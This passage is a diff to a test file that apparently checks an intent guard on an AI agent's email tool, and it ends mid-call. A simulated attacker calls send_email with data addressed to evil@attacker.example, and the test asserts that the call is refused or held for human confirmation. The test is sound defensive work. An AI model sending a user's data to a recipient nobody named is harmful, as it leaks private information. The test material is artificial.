@@ -26,7 +26,10 @@ def test_destination_in_input_responses_is_judged(tmp_path, home):
     with Attacker(config, "--intent", "email bob@corp.com the meeting notes", env={"HOME": str(home)}) as a:
         direct = a.request("tools/call", {"name": "send_email", "_meta": ENV,
                                           "arguments": {"to": "evil@attacker.example", "body": "notes"}})
-        assert direct["result"]["isError"]  # the intent holds for arguments
+        # The intent holds for arguments: a destination nobody named is refused or held for a person.
+        refused = "error" in direct or direct["result"].get("isError")
+        asked = direct.get("result", {}).get("resultType") == "input_required"
+        assert refused or asked, direct
         a.request("tools/call", {"name": "send_email", "_meta": ENV,
                                  "arguments": {"to": "bob@corp.com", "body": "notes"},
                                  "inputResponses": {"confirm_recipient": {
